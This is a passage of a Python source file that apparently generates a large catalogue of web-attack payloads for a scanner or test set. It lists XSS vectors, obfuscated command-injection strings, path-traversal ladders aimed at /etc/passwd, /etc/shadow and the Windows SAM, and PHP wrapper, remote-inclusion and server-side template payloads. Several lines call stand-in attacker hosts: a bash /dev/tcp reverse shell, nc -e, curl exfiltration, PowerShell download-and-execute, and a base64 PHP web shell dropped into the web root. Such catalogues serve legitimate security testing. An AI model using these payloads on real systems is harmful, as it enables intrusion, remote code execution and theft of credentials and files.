        "<picture><source srcset=x><img src=x onerror=alert(1)></picture>", "<input type=image src=x onerror=alert(1)>",
        "<image src=x onerror=alert(1)>", "<video poster=javascript:alert(1)//></video>", "<img src onerror=alert(1)>",
    ],
    "xss-html5-event-handlers": [
        "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<body onpageshow=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>", "<div onpointerover=alert(1)>hover</div>", "<d3v onmouseover=confirm()>x</d3v>",
        "<iframe onload=alert(1)>", "<style onload=alert(1)></style>", "<form onsubmit=alert(1)><input type=submit>",
        "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
        "<html onmouseover=(confirm)()>", "<x contenteditable onbeforeinput=alert(1)>x",
        "<div draggable=true ondragstart=alert(1)>drag</div>", "<body onhashchange=alert(1)><a href=#x>x</a>",
    ],
    "xss-svg-container": [
        "<svg onload=alert(1)>", "<svg/onload=confirm(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to=alert(1)><rect width=100 height=100></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' "
        "onerror='alert(1)'/></svg>#x\"/></svg>",
        "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text x=9 y=9>"
        "click</text></a>",
        "<svg><discard onbegin=alert(1)>", "<svg><style>@import'//xss.example/s.css';</style></svg>",
    ],
    "xss-mathml-container": [
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">CLICK</math>",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">click</maction></math>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) "
        "src=1>\">",
        "<math><annotation-xml encoding=\"text/html\"><svg onload=alert(1)></annotation-xml></math>",
        "<math><style><img src=x onerror=alert(1)></style></math>",
        "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    ],
    "xss-iframe-srcdoc": [
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
        "<iframe srcdoc='<svg onload=parent.alert(1)>'></iframe>",
        "<iframe src=javascript:alert(1)>", "<iFrAme/src=jaVascRipt:alert(1) class=dalfox></iFramE>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
        "<iframe srcdoc=\"&#60;script&#62;alert(1)&#60;/script&#62;\">",
        "<object data=\"javascript:alert(1)\">", "<embed src=\"javascript:alert(1)\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    ],
    "xss-javascript-scheme": [
        "javascript:alert(1)", "JaVaScRiPt:alert(document.domain)", "java\tscript:alert(1)", "java\nscript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", "&#x6A;avascript:alert(1)",
        "javascript&colon;alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
        "javascript://%0Aalert(1)", "javascript:/*--></title></style></textarea></script>*/alert(1)",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a/href=javascript&colon;confirm()>click", "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html,<script>alert(1)</script>",
    ],
    "xss-case-whitespace": [
        "<sVg/OnLoAd=alert(1)>", "<svg\nonload=alert(1)>", "<svg\x0conload=alert(1)>", "<img\tsrc=x\tonerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=alert(1)>",
        "<dETAILS\nopen\nonToGgle\n=\na=prompt,a() x>",
        "<d3v\ronpointerenter\t=\t(prompt)``>", "<svg////////onload=alert(1)>", "<IMG\x00SRC=x onerror=alert(1)>",
        "<a\x0bhref=javascript:alert(1)>x", "<BODY ONLOAD =alert(1)>",
    ],
    "xss-entity-encoding": [
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
        "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;1&#x29;>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;svg onload=alert(1)&#62;",
        "<svg onload=alert&lpar;1&rpar;>", "<img src=x onerror=\"&#0000106avascript:alert(1)\">",
        "\\u003cimg src=x onerror=alert(1)\\u003e", "\\x3csvg onload=alert(1)\\x3e",
        "<svg><script>&#97;lert(1)</script></svg>",
    ],
    "xss-url-encoding": [
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%3Csvg%20onload%3Dalert(1)%3E",
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E", "%22%3E%3Csvg%2Fonload%3Dconfirm(1)%3E",
        "%u003Csvg%u0020onload%u003Dalert(1)%u003E", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
        "%E2%80%9C%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    ],
    "xss-backtick": [
        "<img src=x onerror=alert`1`>", "<svg onload=confirm`document.domain`>",
        "<img src=x onerror=top[`al`+`ert`](1)>",
        "<svg onload=setTimeout`alert\\x281\\x29`>", "`-alert`1`-`", "<script>Function`a${`alert(1)`}```</script>",
        "<img src=`x` onerror=`alert(1)`>", "<d3v onpointerenter=(prompt)``>x",
    ],
    "xss-template-literal": [
        "${alert(1)}", "`${alert(document.domain)}`", "'-alert(1)-'", "\";alert(1)//",
        "';alert(String.fromCharCode(88))//",
        "</script><script>`${alert(1)}`</script>", "${constructor.constructor('alert(1)')()}",
        "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}",
        "\\'-alert(1)//", "`;alert(1);`",
    ],
    "xss-dom-probe": [
        "#<img src=x onerror=alert(1)>", "javascript:alert(document.domain)//", "#\"><svg onload=alert(1)>",
        "'\"><img src=x onerror=alert(location.hash.slice(1))>", "__proto__[innerHTML]=<img/src/onerror=alert(1)>",
        "?next=javascript:alert(1)", "data:,alert(1)//", "<img src=x onerror=eval(location.hash.substr(1))>",
        "\"><script>document.write(decodeURIComponent(location.hash))</script>",
        "<iframe src=\"#\" onload=\"alert(window.name)\" name=\"x\">",
    ],
    "xss-attribute-breakout": [
        "\" autofocus onfocus=alert(1) x=\"", "' onmouseover='alert(1)", "\" onmouseover=alert(1) //",
        "\"><img src=x onerror=alert(1)>", "' accesskey='x' onclick='alert(1)' x='", "\" style=animation-name:x "
        "onanimationstart=alert(1) x=\"", "\"/onpointerenter=alert(1)//", "x\" onerror=\"alert(1)",
        "'></textarea><svg onload=alert(1)>", "\"></title><script>alert(1)</script>",
    ],
    "xss-link-meta-form": [
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:/a/-alert(1)///\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">", "<a href=javascript:alert(1)>click</a>",
        "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x</button>",
        "<isindex type=image src=1 onerror=alert(1)>", "<form><button formaction=\"jav&#x09;ascript:alert(1)\">x",
        "<area href=javascript:alert(1)>", "<link rel=import href=\"//xss.example/x.html\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    ],
    "xss-css-vector": [
        "<style>@import'//xss.example/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">",
        "<div style=\"width:expression(alert(1))\">", "<x style=\"behavior:url(#default#time2)\" onbegin=alert(1)>",
        "<style>*{background-image:url('javascript:alert(1)')}</style>",
        "<div style=\"-moz-binding:url(//xss.example/x.xml#xss)\">",
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=alert(1)>",
        "<link rel=stylesheet href=//xss.example/x.css>",
    ],
    "xss-js-obfuscation": [
        "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", "<svg onload=window['al'+'ert'](1)>",
        "<svg onload=self[`\\x61lert`](1)>", "<svg onload=top['al\\x65rt'](1)>",
        "<img src=x onerror=[].constructor.constructor('alert(1)')()>", "<svg onload=setTimeout('ale'+'rt(1)')>",
        "<svg onload=import('//xss.example/m.js')>", "<svg onload=alert?.(1)>",
        "<script>onerror=alert;throw 1</script>",
        "<img src=x onerror=Reflect.apply(alert,window,[1])>", "<svg onload=(alert)(1)>",
        "<svg onload=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>",
        "<svg onload=location='javas'+'cript:al'+'ert(1)'>",
    ],
    "xss-polyglot": [
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "'\"-->]]>*/</script></style></title></textarea><svg onload=alert(1)>",
        "\"'--></noscript></noembed></template></title></textarea></style><script>alert(1)</script>",
        "-->'\"/></sCript><deTailS open x=\">\" ontoggle=(co\\u006efirm)``>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<noscript><p title=\"</noscript><img src=x "
        "onerror=alert(1)>\">",
    ],
}
WIRE_SUBS = {"xss-url-encoding", "lfi-url-encoding", "lfi-double-encoding", "lfi-overlong-utf8",
             "lfi-unicode-encoding", "lfi-null-byte", "ssrf-gopher", "rfi-url-null-byte"}
PCT = re.compile(r"%[0-9a-fA-F]{2}")


def _is_wire(sub: str, payload: str) -> bool:
    """Whether a tool sends this payload as it stands: its own percent codes, no space to encode."""
    return sub in WIRE_SUBS or (PCT.search(payload) is not None and " " not in payload)


# ---------------------------------------------------------------------------------------------------------------
# Command injection: separators crossed with techniques

SEPARATORS = [";", "|", "||", "&", "&&", "\n", "';", "\";", "%0a", "`", "$("]
MARK = "QWZK"


def _wrap(sep: str, cmd: str) -> str:
    """cmd after a separator as the tool sends it (backtick and $( close themselves)."""
    if sep == "`":
        return f"`{cmd}`"
    if sep == "$(":
        return f"$({cmd})"
    if sep in ("';", "\";"):
        return f"{sep}{cmd}{sep[0]}"
    return f"{sep}{cmd}"


CMDI_CORES: dict[str, list[str]] = {
    "cmdi-results-based": [
        f"echo {MARK}$((37+41))$(echo {MARK}){MARK}", "id", "uname -a", "cat /etc/passwd",
        f"echo {MARK}`expr 37 + 41`{MARK}", "whoami", "ls -la /", f"printf {MARK}%s{MARK} $((6*7))",
        "cat /etc/hostname", "head -n 3 /etc/passwd",
    ],
    "cmdi-time-based": [
        "sleep 5", "sleep${IFS}5", "ping -c 6 127.0.0.1", "str=$(echo QWZK);str1=${#str};if [ 4 -ne ${str1} ];"
        "then sleep 0;else sleep 5;fi", "timeout 5 cat /dev/zero", "perl -e 'sleep 5'",
        "python3 -c 'import time;time.sleep(5)'", "sleep $((2+3))", "read -t 5 < /dev/zero",
    ],
    "cmdi-file-based": [
        f"echo {MARK} > /var/www/html/{MARK.lower()}.txt", f"echo $(id) > /tmp/{MARK.lower()}.txt",
        "id > /var/www/html/static/out.txt", f"touch /tmp/{MARK}", "cp /etc/passwd /var/www/html/p.txt",
        f"echo {MARK}$((37+41)) | tee /usr/share/nginx/html/t.txt", "uname -a >> /tmp/u.log",
        "echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==|base64 -d>/var/www/html/s.php",
    ],
}
CMDI_ALT: dict[str, list[str]] = {
    "cmdi-ifs": [
        ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", "|uname${IFS}-a", "&&sleep${IFS}5",
        ";IFS=,;`cat<<<cat,/etc/passwd`", ";ls${IFS}-la${IFS}/", "$(cat${IFS}/etc/hostname)",
        ";ping${IFS}-c${IFS}6${IFS}127.0.0.1", "|cat</etc/passwd", ";X=$'cat\\x20/etc/passwd'&&$X",
    ],
    "cmdi-brace-expansion": [
        ";{cat,/etc/passwd}", "|{id,}", "&&{sleep,5}", ";{ls,-la,/}", "$({cat,/etc/hostname})",
        ";{echo,QWZK}", "`{uname,-a}`", ";{wget,-qO-,http://203.0.113.50/s.sh}|sh",
    ],
    "cmdi-quoting": [
        ";c'a't /e't'c/pa''sswd", ";w\"h\"o\"am\"i", ";who\\ami", "|i''d", ";c\\a\\t /et\\c/pass\\wd",
        "&&sl''eep 5", ";un\"\"ame -a", "$(w'h'oami)", ";c$@at /etc/pass$@wd", ";w$()hoami", ";who$u'am'i",
    ],
    "cmdi-variable-slices": [
        ";cat ${PATH:0:1}etc${PATH:0:1}passwd", ";${HOME:0:1}bin${HOME:0:1}cat /etc/passwd",
        ";cat $(echo . | tr '!-0' '\"-1')etc$(echo . | tr '!-0' '\"-1')passwd", ";${SHELL:0:1}usr/bin/id",
        "|${PATH:5:1}${PATH:2:1}", ";a=c;b=at;$a$b /etc/passwd", ";x=who;y=ami;$x$y", ";echo ${PWD:0:1}",
    ],
    "cmdi-wildcards": [
        ";/???/c?t /???/p?ss??", ";/bin/c[a]t /etc/pass[w]d", "|/???/??n?m? -a", ";/usr/bin/wh*mi",
        ";cat /e?c/p*d", "&&/?s?/?i?/sl??p 5", ";/b??/l? -la /", "$(/???/?at /???/h?st?am?)",
    ],
    "cmdi-base64-pipeline": [
        ";echo aWQ=|base64 -d|sh", ";echo Y2F0IC9ldGMvcGFzc3dk|base64 --decode|bash", "|bash<<<$(base64 -d<<<d2hvYW1p)",
        "$(echo c2xlZXAgNQ==|base64 -d)", ";echo dW5hbWUgLWE=|openssl base64 -d|sh", "`echo aWQ=|base64 -d`",
        ";sh -c \"$(echo bHMgLWxhIC8=|base64 -d)\"",
        ";python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\"",
    ],
    "cmdi-hex-decoding": [
        ";echo 6964|xxd -r -p|sh", ";$(printf '\\x69\\x64')", ";echo -e '\\x63\\x61\\x74\\x20/etc/passwd'|sh",
        ";$'\\x77\\x68\\x6f\\x61\\x6d\\x69'", "|`echo 756e616d65202d61|xxd -r -p`", ";$(printf '\\151\\144')",
        ";echo 'di'|rev|sh", ";echo 'qjvbnzv' | tr 'a-z' 'n-za-m' | sh", ";perl -e 'system pack(\"H*\",\"6964\")'",
    ],
    "cmdi-windows-results": [
        "& whoami", "| type C:\\Windows\\win.ini", "& set /a 37+41", "&& dir C:\\",
        "&for /f \"tokens=*\" %i in ('cmd /c \"set /a (37+41)\"') do @set /p=QWZK%iQWZK< nul", "| ver",
        "& echo %USERNAME%", "& ipconfig /all", "| net user", "& systeminfo",
    ],
    "cmdi-windows-time": [
        "& ping -n 6 127.0.0.1", "| timeout /T 5", "&& ping -n 6 localhost > nul", "& waitfor /t 5 QWZK",
        "& powershell.exe -InputFormat none Start-Sleep -s 5", "| choice /t 5 /d y > nul",
        "& for /l %i in (1,1,50000) do @rem",
    ],
    "cmdi-powershell-enc": [
        "& powershell -enc dwBoAG8AYQBtAGkA", "| powershell.exe -nop -w hidden -e UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAANQA=",
        "& powershell -EncodedCommand RwBlAHQALQBQAHIAbwBjAGUAcwBzAA==",
        "& powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')\"",
        "| pwsh -e aQBkAA==", "& powershell -c \"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("
        "'dwBoAG8AYQBtAGkA'))|iex\"", "& powershell -ExecutionPolicy Bypass -WindowStyle Hidden -enc "
        "JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=",
    ],
    "cmdi-windows-obfuscation": [
        "& who^ami", "& w\"h\"o\"a\"m\"i", "& c^m^d /c set", "& %COMSPEC% /c whoami", "& cmd /c \"set x=who&&set "
        "y=ami&&call %x%%y%\"", "& echo %PATH:~0,1%", "& %ProgramFiles:~10,-5%", "& ,;cmd,/c,whoami",
        "& cmd /v:on /c \"set a=whoami&&!a!\"", "& certutil -urlcache -split -f http://203.0.113.50/x.exe x.exe",
    ],
    "cmdi-out-of-band": [
        ";nslookup $(whoami).oob.attacker.example", "|curl http://203.0.113.50/$(id|base64)",
        ";wget http://203.0.113.50/?d=`uname`", "&& ping -c 1 `whoami`.oob.attacker.example",
        ";bash -i >& /dev/tcp/203.0.113.50/4444 0>&1", ";nc -e /bin/sh 203.0.113.50 4444",
        "& nslookup %USERNAME%.oob.attacker.example",
    ],
}


def cmdi_items() -> list[Item]:
    items = []
    for k, (sub, cores) in enumerate(CMDI_CORES.items()):
        for i, core in enumerate(cores):
            sep = SEPARATORS[(i + 3 * k) % len(SEPARATORS)]
            items.append(Item("rce", sub, ("1" if i % 2 else "") + _wrap(sep, core)))
    for sep in ("\n", "\r\n", "%0a", "%0d%0a", "\n\n"):
        for core in ("id", "sleep 5"):
            items.append(Item("rce", "cmdi-newline-separator", f"127.0.0.1{sep}{core}", "%" in sep))
    for sub, payloads in CMDI_ALT.items():
        items += [Item("rce", sub, ("127.0.0.1" if i % 3 == 0 else "") + p, _is_wire(sub, p))
                  for i, p in enumerate(payloads)]
    return items


# ---------------------------------------------------------------------------------------------------------------
# File inclusion / traversal: depth and encoding ladders

UNIX_TARGETS = ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline",
                "var/log/nginx/access.log", "etc/issue", "root/.bash_history", "proc/version"]
WIN_TARGETS = ["windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "inetpub/wwwroot/web.config",
               "windows/system.ini"]
APP_TARGETS = [".env", "WEB-INF/web.xml", "config/database.yml", "app/etc/local.xml", ".git/config"]
LADDERS: dict[str, tuple[str, str, bool]] = {
    # sub: (dot-dot step, path separator inside the target, wire form)
    "lfi-dotdot-slash": ("../", "/", False),
    "lfi-dotdot-backslash": ("..\\", "\\", False),
    "lfi-url-encoding": ("%2e%2e%2f", "%2f", True),
    "lfi-double-encoding": ("%252e%252e%252f", "%252f", True),
    "lfi-overlong-utf8": ("%c0%ae%c0%ae%c0%af", "%c0%af", True),
    "lfi-unicode-encoding": ("%u002e%u002e%u2215", "%u2215", True),
    "lfi-nested-dotdot": ("....//", "/", False),
    "lfi-semicolon-dotdot": ("..;/", "/", False),
}


def _mixed_steps(sub: str, depth: int) -> str:
    if sub == "lfi-url-encoding":
        return "".join(("%2e%2e%2f", "..%2f", "%2e%2e/", "..%5c")[(depth + i) % 4] for i in range(depth))
    if sub == "lfi-nested-dotdot":
        return "".join(("....//", "..././", "....\\\\", "..../")[(depth + i) % 4] for i in range(depth))
    if sub == "lfi-double-encoding":
        return "".join(("%252e%252e%252f", "..%252f", "%252e%252e/")[(depth + i) % 3] for i in range(depth))
    return LADDERS[sub][0] * depth


def lfi_items() -> list[Item]:
    items = []
    for k, (sub, (_step, sep, wire)) in enumerate(LADDERS.items()):
        targets = WIN_TARGETS if sub == "lfi-dotdot-backslash" else UNIX_TARGETS
        for depth in range(1, 10):
            target = targets[(depth + k) % len(targets)]
            if depth % 4 == 0 and sub != "lfi-dotdot-backslash":
                target = APP_TARGETS[(depth + k) % len(APP_TARGETS)]
            items.append(Item("lfi", sub, _mixed_steps(sub, depth) + target.replace("/", sep), wire))
    null = ["../../../../etc/passwd%00", "../../../../etc/passwd%00.jpg", "..%2f..%2f..%2fetc%2fpasswd%00.png",
            "/etc/passwd%00.html", "....//....//....//etc/passwd%00", "..\\..\\..\\windows\\win.ini%00.txt",
            "../../../../../etc/shadow%2500", "../../../boot.ini%00"]
    items += [Item("lfi", "lfi-null-byte", p, True) for p in null]
    trunc = ["../../../../etc/passwd" + "/." * 60, "../../../etc/passwd" + "/" * 80 + "x",
             "../../../../etc/passwd" + "./" * 70, "..\\..\\..\\windows\\win.ini" + "." * 120,
             "../../../etc/hosts/././././././././././././././././././././././././././././././././././.",
             "/etc/passwd/" + "." * 100]
    items += [Item("lfi", "lfi-path-truncation", p) for p in trunc]
    absolute = ["/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/self/fd/2", "file:///etc/passwd",
                "/var/log/apache2/access.log", "/usr/local/etc/nginx/nginx.conf", "//etc//passwd", "/./etc/./passwd",
                "/etc/passwd/"]
    items += [Item("lfi", "lfi-absolute-path", p) for p in absolute]
    windows = ["C:\\Windows\\win.ini", "C:/Windows/System32/drivers/etc/hosts", "c:\\boot.ini",
               "C:\\inetpub\\wwwroot\\web.config", "..\\..\\..\\..\\..\\Windows\\System32\\config\\SAM",
               "C:\\Windows\\repair\\sam", "file:///C:/Windows/win.ini", "C:\\Windows\\System32\\inetsrv\\config\\"
               "applicationHost.config", "%SYSTEMROOT%\\win.ini"]
    items += [Item("lfi", "lfi-windows-path", p) for p in windows]
    unc = ["\\\\127.0.0.1\\c$\\Windows\\win.ini", "\\\\localhost\\admin$\\win.ini", "\\\\?\\C:\\Windows\\win.ini",
           "\\\\.\\C:\\Windows\\win.ini", "//127.0.0.1/c$/boot.ini", "\\\\203.0.113.50\\share\\x.txt",
           "\\\\?\\UNC\\203.0.113.50\\share\\p.txt"]
    items += [Item("lfi", "lfi-unc-path", p) for p in unc]
    return items


# ---------------------------------------------------------------------------------------------------------------
# PHP wrappers and eval-based code injection

PHP: dict[str, list[str]] = {
    "php-filter-wrapper": [
        "php://filter/convert.base64-encode/resource=index.php", "php://filter/read=convert.base64-encode/resource="
        "../config.php", "php://filter/string.rot13/resource=/etc/passwd", "PHP://FILTER/convert.base64-encode/"
        "resource=../../app/config/parameters.yml", "php://filter/read=string.toupper|string.rot13/resource=index",
        "php://filter/convert.iconv.utf-8.utf-16le/resource=/etc/passwd", "php://filter/zlib.deflate/convert."
        "base64-encode/resource=/var/www/html/wp-config.php", "pHp://filter/resource=/etc/hosts",
        "php://filter/convert.quoted-printable-encode/resource=.env",
    ],
    "php-filter-chain": [
        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv."
        "UTF8.UTF16|convert.iconv.WINDOWS-1258.UTF32LE|convert.iconv.ISIRI3342.ISO-IR-157|convert.base64-decode|"
        "convert.base64-encode|convert.iconv.UTF8.UTF7/resource=php://temp",
        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.ISO2022KR.UTF16|convert."
        "iconv.L6.UCS2|convert.base64-decode|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.865.UTF16|"
        "convert.iconv.CP901.ISO6937|convert.base64-decode/resource=php://temp",
        "php://filter/read=convert.iconv.UTF8.UTF16|convert.iconv.UTF16.UTF8|convert.base64-decode/resource=data:,x",
        "php://filter/convert.iconv.L1.UTF-16LE|convert.iconv.CP1282.ISO-IR-90|convert.base64-decode/resource="
        "index.php",
    ],
    "php-input-wrapper": [
        "php://input", "PHP://input", "php://input%00", "php://fd/0", "php://stdin", "php://memory",
    ],
    "php-data-wrapper": [
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+", "data:text/plain,<?php phpinfo();?>",
        "data://text/plain,<?php system('id');?>", "data:;base64,PD9waHAgcGhwaW5mbygpOz8+",
        "DATA://text/plain;base64,PD89YGlkYD8+", "data://text/html;charset=utf-8,<?=`id`?>",
    ],
    "php-expect-wrapper": [
        "expect://id", "expect://ls%20-la", "expect://whoami", "EXPECT://uname -a", "expect://cat /etc/passwd",
    ],
    "php-archive-wrapper": [
        "zip://uploads/avatar.jpg%23shell.php", "zip:///var/www/html/uploads/x.zip#cmd", "phar://uploads/x.gif/shell",
        "phar:///tmp/upload.phar/test.txt", "compress.zlib://php://input", "compress.bzip2:///etc/passwd",
        "glob:///var/www/html/*.php", "rar://uploads/a.rar#b.php",
    ],
    "php-eval-injection": [
        "';print(`id`);'", "\".system('id').\"", "${@print(md5(31337))}", "{${system('id')}}", ";phpinfo();//",
        "'.passthru('uname -a').'", "1;eval($_REQUEST[1]);", "\";echo shell_exec('whoami');//",
        "${@print(chr(81).chr(87).chr(90).chr(75))}", "'.print(str_rot13('DJMX')).'", "');system('id');//",
        "<?php echo md5('QWZK'); ?>",
    ],
}


# ---------------------------------------------------------------------------------------------------------------
# Remote inclusion

RFI: dict[str, list[str]] = {
    "rfi-url-question-mark": [
        "http://203.0.113.50/shell.txt?", "https://attacker.example/c99.txt?", "http://attacker.example/inc.txt??",
        "hTTp://attacker.example/r57.txt?x=", "http://attacker.example/x.php?cmd=id&", "https://attacker.example/a?",
    ],
    "rfi-url-null-byte": [
        "http://attacker.example/shell.txt%00", "https://203.0.113.50/x.txt%00.php", "http://attacker.example/t%00",
        "http://attacker.example/s.jpg%2500",
    ],
    "rfi-url-fragment": [
        "http://attacker.example/shell.txt#", "https://attacker.example/x.txt%23", "http://203.0.113.50/p#.php",
        "//attacker.example/shell.txt#",
    ],
    "rfi-ftp": [
        "ftp://attacker.example/pub/shell.txt", "ftp://anonymous:a@203.0.113.50/x.php",
        "ftps://attacker.example/x.txt?", "FTP://attacker.example/inc.txt",
    ],
    "rfi-unc-share": [
        "\\\\attacker.example\\share\\shell.php", "\\\\203.0.113.50\\pub\\x.txt", "//attacker.example/share/s.php",
        "smb://attacker.example/share/s.php", "\\\\attacker.example@SSL\\DavWWWRoot\\x.php",
    ],
    "rfi-numeric-host": [
        "http://3405803826/shell.txt?", "http://0xcb007132/s.txt", "http://0313.0.0161.062/x.txt?",
        "http://[::ffff:cb00:7132]/x.txt?", "https://attacker.example:8443/x.txt?", "http://203.0.113.50:80/r.txt%00",
    ],
}


# ---------------------------------------------------------------------------------------------------------------
# Server-side templates: engine detection, then each engine's exploitation

SSTI: dict[str, list[str]] = {
    "ssti-detect-polyglot": [
        "${{<%[%'\"}}%\\.", "{{7*7}}${7*7}<%=7*7%>#{7*7}*{7*7}", "{{1337*1337}}", "${1337*1337}", "<%= 1337*1337 %>",
        "#{1337*1337}", "*{1337*1337}", "@(1337*1337)", "{{=1337*1337}}", "[[${1337*1337}]]", "{1337*1337}",
        "${{1337*1337}}", "{{7*'7'}}", "{#7*7#}{{7*7}}",
    ],
    "ssti-jinja2": [
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ config.items() }}", "{{ lipsum.__globals__['os'].popen('whoami').read() }}",
        "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module."
        "__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
        "{{ namespace.__init__.__globals__.os.popen('uname -a').read() }}", "{{ url_for.__globals__.os.environ }}",
        "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    ],
    "ssti-jinja2-filter-bypass": [
        "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
        "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|"
        "attr('popen')('id')|attr('read')() }}",
        "{{ ()|attr(request.args.c)|attr(request.args.b) }}",
        "{{ ''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1] }}",
        "{% set x=lipsum|attr('__globals__') %}{{ x.os.popen('id').read() }}",
        "{{ (lipsum|attr(\"__glo\"+\"bals__\")).os.popen(\"id\").read() }}",
        "{%print(cycler.__init__.__globals__.os.popen('id').read())%}",
        "{{ self['__init__']['__globals__']['__builtins__']['eval']('__import__(\"os\").popen(\"id\").read()') }}",
        "{{ ''|attr('\\u005f\\u005fclass\\u005f\\u005f') }}",
    ],
    "ssti-twig": [
        "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
        "{{['id']|filter('system')}}", "{{['cat /etc/passwd']|map('passthru')|join}}", "{{['id',0]|sort('system')}}",
        "{{[0]|reduce('system','id')}}", "{{ app.request.server.all|join(',') }}", "{{ dump(app) }}",
        "{{'/etc/passwd'|file_excerpt(1,30)}}", "{% set cmd='id' %}{{[cmd]|map('exec')|join}}",
    ],
    "ssti-freemarker": [
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}",
        "<#assign classloader=article.class.protectionDomain.classLoader>",
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
        ".toURL().openStream().readAllBytes()?join(\" \")}",
        "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
        "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\","
        "\"id\").start()}", "${.data_model}", "<#list .data_model?keys as k>${k}</#list>",
    ],
    "ssti-velocity": [
        "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
